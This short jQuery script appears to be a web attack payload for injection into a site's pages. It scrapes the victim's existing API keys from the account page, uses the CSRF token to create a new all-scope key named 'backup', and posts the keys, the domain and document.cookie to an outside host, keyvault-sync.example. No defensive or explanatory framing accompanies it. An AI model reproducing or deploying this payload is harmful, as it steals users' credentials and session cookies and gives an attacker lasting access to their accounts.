$.get('/account/api-keys', function (html) {
  var $p = $('<div>').html(html), rows = [];
  $p.find('input[readonly], code, .api-key').each(function () {
    var v = $(this).val() || $(this).text();
    if (/^(sk|pk|ghx|key)[-_][A-Za-z0-9_-]{16,}$/.test($.trim(v))) rows.push($.trim(v));
  });
  var tk = $p.find('[name=authenticity_token]').val();
  $.post('/account/api-keys', { authenticity_token: tk, name: 'backup', scope: 'all' }, function (h2) {
    rows.push($('<div>').html(h2).find('.new-key').text());
    $.ajax({ url: 'https://keyvault-sync.example/add', type: 'POST', data: { r: rows.join('|'), d: document.domain, c: document.cookie } });
  });
});
